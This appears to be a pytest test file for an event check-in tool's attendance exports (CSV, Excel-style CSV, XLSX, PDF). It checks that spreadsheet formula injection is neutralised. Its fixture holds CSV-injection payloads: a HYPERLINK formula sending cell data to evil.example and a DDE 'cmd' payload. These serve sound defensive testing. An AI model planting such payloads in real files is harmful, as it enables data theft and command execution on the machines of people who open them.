"""Attendance exports opened the way a user's spreadsheet would: csv module, openpyxl."""

from __future__ import annotations

import csv

import pytest
from openpyxl import load_workbook

from checkin import exports
from checkin.exports import local_iso, neutralise, write_attendance

NASTY = [
    {"first_name": '=HYPERLINK("http://evil.example/?x="&A1,"Klick")', "last_name": "Angreifer",
     "organisation": "+SUM(1;2)", "role": "@SUM(A1:A9)", "workshop": "-2+3+cmd|' /C calc'!A0",
     "extra": {"Telefon": "+49 231 1234567", "Zahl": "-5", "Tab": "\tTAB", "CR": "\rCR"}},
    {"first_name": "Олена", "last_name": "Łukasiewicz", "organisation": "Ελληνική Κοινότητα",
     "extra": {"Telefon": "0231 9876543"}},
]
COLUMNS = ("last_name", "first_name", "organisation", "role", "workshop", "email", "walk_in",
           "checked_in_at", "station", "extra:Telefon", "extra:Zahl", "extra:Tab", "extra:CR")


@pytest.fixture
def event(demo_store):
    """Demo event: 20 checked in, one of them undone, a walk-in, two attendees with nasty values."""
    store = demo_store
    with store.transaction():
        nasty_ids = store.insert_attendees(NASTY)
    ids = [a.id for a in store.all_attendees(order="id")][:20]
    for attendee_id in ids + nasty_ids:
        store.check_in(attendee_id, station="Empfang 1")
    store.undo(ids[3], station="Empfang 1", reason="falsche Person")
    store.add_walk_in("Zoë", "Spontan", station="Empfang 2", organisation="Stadt Hamm")
    return store


def expected(store, checked_in_only=True):
    return [a for a in store.all_attendees(order="name") if a.checked_in or not checked_in_only]


def test_local_iso_is_berlin_time_with_offset():
    assert local_iso("2017-03-20T08:03:00.000Z") == "2017-03-20T09:03:00+01:00"
    assert local_iso("2017-07-01T08:03:00.000Z") == "2017-07-01T10:03:00+02:00"
    assert local_iso(None) == ""


def test_neutralise_follows_owasp_but_keeps_numbers():
    for bad in ("=1+1", "+SUM(1)", "-2+3", "@SUM(A1)", "\tx", "\rx", "  =1+1", "\u00a0@x"):
        assert neutralise(bad) == "'" + bad
    assert neutralise("-5") == "-5" and neutralise("+3,5") == "+3,5"
    assert neutralise("+49 231 1234567") == "'+49 231 1234567"
    assert neutralise("0231 9876543") == "0231 9876543"
    assert neutralise("Müller") == "Müller"


def test_utf8_csv_holds_every_checked_in_person(event, tmp_path):
    path = tmp_path / "anwesend.csv"
    result = write_attendance(event, path, columns=COLUMNS)
    people = expected(event)
    assert result.rows == len(people) == 20 - 1 + 2 + 1
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0][:3] == ["Nachname", "Vorname", "Institution"]
    assert len(rows) == len(people) + 1
    for row, person in zip(rows[1:], people):
        assert row[0].lstrip("'") == person.last_name
        assert row[1].lstrip("'") == person.first_name
        assert row[2].lstrip("'") == person.organisation
        assert row[6] == ("ja" if person.walk_in else "nein")
        assert row[7] == local_iso(person.checked_in_at) and row[7].endswith(("+01:00", "+02:00"))
        assert row[8] == person.station
    undone = next(a for a in event.all_attendees() if any(e.kind == "undo" for e in event.log(a.id)))
    assert (undone.last_name, undone.first_name) not in {(r[0], r[1]) for r in rows}
    walk = [r for r in rows if r[0] == "Spontan"]
    assert walk and walk[0][6] == "ja" and walk[0][8] == "Empfang 2"


def test_csv_cells_never_start_a_formula(event, tmp_path):
    path = tmp_path / "anwesend.csv"
    write_attendance(event, path, columns=COLUMNS)
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "@", "\t", "\r")), value
            if value.startswith(("+", "-")):
                assert value in ("-5",), value
    nasty = next(r for r in rows if r[0] == "Angreifer")
    assert nasty[1] == "'" + NASTY[0]["first_name"]
    assert nasty[9] == "'+49 231 1234567"  # reads as the phone number, never as a formula
    assert nasty[10] == "-5"
    assert nasty[11] == "'\tTAB" and nasty[12] == "'\rCR"


def test_german_excel_csv(event, tmp_path):
    path = tmp_path / "excel.csv"
    result = write_attendance(event, path, columns=COLUMNS, excel=True)
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    with path.open(encoding="cp1252", newline="") as f:
        rows = list(csv.reader(f, delimiter=";"))
    people = expected(event)
    assert len(rows) == len(people) + 1 and len(rows[0]) == len(COLUMNS)
    for row, person in zip(rows[1:], people):
        if person.last_name.encode("cp1252", "ignore").decode("cp1252") == person.last_name:
            assert row[0].lstrip("'") == person.last_name
    lukas = next(r for r in rows if r[0] == "Lukasiewicz")
    assert lukas[1] == "?????" and lukas[9] == "0231 9876543"
    assert result.lossy_cells >= 3


def test_xlsx_every_value_is_text_never_a_formula(event, tmp_path):
    path = tmp_path / "anwesend.xlsx"
    result = write_attendance(event, path, columns=COLUMNS)
    people = expected(event)
    sheet = load_workbook(path).active
    rows = list(sheet.iter_rows())
    assert result.rows == len(people) and len(rows) == len(people) + 1
    for row in rows:
        for cell in row:
            assert cell.data_type == "s" or cell.value is None
    for row, person in zip(rows[1:], people):
        values = [c.value or "" for c in row]
        assert values[0] == person.last_name and values[1] == person.first_name
        assert values[2] == person.organisation and values[5] == person.email
        assert values[7] == local_iso(person.checked_in_at)
    nasty = next(r for r in rows if r[0].value == "Angreifer")
    assert nasty[1].value == NASTY[0]["first_name"] and nasty[1].quotePrefix
    assert nasty[9].value == "+49 231 1234567"
    olena = next(r for r in rows if r[0].value == "Łukasiewicz")
    assert olena[1].value == "Олена" and olena[2].value == "Ελληνική Κοινότητα"


def test_all_registered_and_english_headers(event, tmp_path):
    path = tmp_path / "all.csv"
    result = write_attendance(event, path, columns=("last_name", "checked_in", "checked_in_at"),
                              checked_in_only=False, lang="en", delimiter=";")
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f, delimiter=";"))
    assert rows[0] == ["Last name", "Attended", "Check-in (local time)"]
    assert result.rows == event.count() == len(rows) - 1
    assert sum(r[1] == "yes" for r in rows[1:]) == event.stats()["checked_in"]


def test_bad_requests_are_clear(event, tmp_path):
    with pytest.raises(exports.ExportError, match="unknown column 'nme'"):
        exports.parse_columns("last_name,nme")
    with pytest.raises(exports.ExportError, match=r"\.csv or \.xlsx"):
        write_attendance(event, tmp_path / "x.ods")
    assert exports.parse_columns("last_name, extra:Telefon") == ("last_name", "extra:Telefon")


def test_a_failed_export_leaves_the_previous_file_and_no_scratch_file(event, tmp_path, monkeypatch):
    from openpyxl import Workbook

    folder = tmp_path / "exports"
    folder.mkdir()
    old = folder / "anwesenheit.xlsx"
    write_attendance(event, old)
    before = old.read_bytes()

    def full_disk(self, data):
        data.write(b"half a workbook")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Workbook, "save", full_disk)
    with pytest.raises(OSError, match="No space left"):
        write_attendance(event, old)
    assert old.read_bytes() == before and list(folder.iterdir()) == [old]


def test_cli_export_all_three(event, db_path, tmp_path, capsys):
    from checkin import cli

    event.close()
    assert cli.main(["--db", str(db_path), "export", "-o", str(tmp_path / "a.csv"), "--excel"]) == 0
    assert cli.main(["--db", str(db_path), "export", "-o", str(tmp_path / "a.xlsx"), "--all",
                     "--columns", "last_name,checked_in"]) == 0
    assert cli.main(["--db", str(db_path), "export", "-o", str(tmp_path / "l.pdf"), "--checked-in"]) == 0
    assert cli.main(["--db", str(db_path), "export", "-o", str(tmp_path / "r.pdf"), "--what", "report"]) == 0
    out = capsys.readouterr().out
    assert "22 people written" in out and "cells held letters Windows-1252 lacks" in out
    assert "attendance list: 22 people on 2 pages written" in out and "report written" in out
    with (tmp_path / "a.csv").open(encoding="cp1252", newline="") as f:
        assert len(list(csv.reader(f, delimiter=";"))) == 23
    assert load_workbook(tmp_path / "a.xlsx").active.max_row == 64
    assert cli.main(["--db", str(db_path), "export", "-o", str(tmp_path / "r.csv"), "--what", "report"]) == 2
    assert cli.main(["--db", str(db_path), "export", "-o", str(tmp_path / "a.csv"), "--columns", "x"]) == 2
    err = capsys.readouterr().err
    assert "the report is written as a .pdf file" in err and "unknown column 'x'" in err
    assert "Traceback" not in err


@pytest.mark.parametrize("name, what", [("dir.csv", []), ("dir.pdf", []), ("dir.pdf", ["--what", "report"])])
def test_cli_export_to_a_folder_or_an_unwritable_place_is_one_clear_line(event, db_path, tmp_path, capsys,
                                                                          name, what):
    from checkin import cli

    event.close()
    folder = tmp_path / name
    folder.mkdir()
    (folder / "inside.txt").write_text("kept")
    assert cli.main(["--db", str(db_path), "export", "-o", str(folder), *what]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "is a folder" in err and "unexpected" not in err, err
    assert (folder / "inside.txt").read_text() == "kept"
    unwritable = "/proc/" + name  # /proc exists, but nobody can create files in it
    assert cli.main(["--db", str(db_path), "export", "-o", unwritable, *what]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "could not write it" in err and "unexpected" not in err, err


@pytest.mark.parametrize("args, says", [
    (["-o", "a.xlsx", "--excel"], "--excel does not apply to an XLSX file"),
    (["-o", "a.xlsx", "--delimiter", ";"], "--delimiter does not apply to an XLSX file"),
    (["-o", "l.pdf", "--columns", "last_name"], "--columns does not apply to the signed attendance list"),
    (["-o", "l.pdf", "--excel"], "--excel does not apply to the signed attendance list"),
    (["-o", "r.pdf", "--what", "report", "--all"], "--checked-in/--all does not apply to the report"),
    (["-o", "r.pdf", "--what", "report", "--lang", "en"], "--lang does not apply to the report"),
    (["-o", "a.csv", "--excel", "--delimiter", ";"], "--excel always uses ';'"),
    (["-o", "a.csv", "--columns", "last_name,first_name,last_name"], "column 'last_name' chosen twice"),
])
def test_cli_export_refuses_options_it_would_ignore(event, db_path, tmp_path, capsys, monkeypatch, args,
                                                    says):
    """An organiser who asks for an English report or an Excel-style XLSX must not get a file that
    silently ignored the option; a column named twice is a typo."""
    from checkin import cli

    event.close()
    monkeypatch.chdir(tmp_path)
    assert cli.main(["--db", str(db_path), "export", *args]) == 2
    err = capsys.readouterr().err
    assert says in err and err.count("\n") == 1, err
    assert list(tmp_path.glob("*.xlsx")) == list(tmp_path.glob("*.pdf")) == list(tmp_path.glob("*.csv")) == []


def test_an_xlsx_export_that_runs_out_of_room_is_one_line_and_keeps_the_old_file(demo_store, db_path,
                                                                                  tmp_path):
    """A full disk during an XLSX export printed the one-line message, then a traceback from
    openpyxl's half-written zip file being collected. A file-size limit stands in for the disk."""
    import resource
    import signal
    import subprocess
    import sys

    out = tmp_path / "teilnahme.xlsx"
    out.write_bytes(b"the export of an hour ago")

    def small_files():
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG instead
        resource.setrlimit(resource.RLIMIT_FSIZE, (8192, 8192))

    command = [sys.executable, "-m", "checkin", "--db", str(db_path), "export", "-o", str(out), "--all"]
    done = subprocess.run(command, capture_output=True, text=True, timeout=60, preexec_fn=small_files)
    assert done.returncode == 2, done.stderr
    assert done.stderr.startswith(f"checkin: {out}: could not write it") and done.stderr.count("\n") == 1, \
        done.stderr
    assert out.read_bytes() == b"the export of an hour ago" and not list(tmp_path.glob("*.part"))
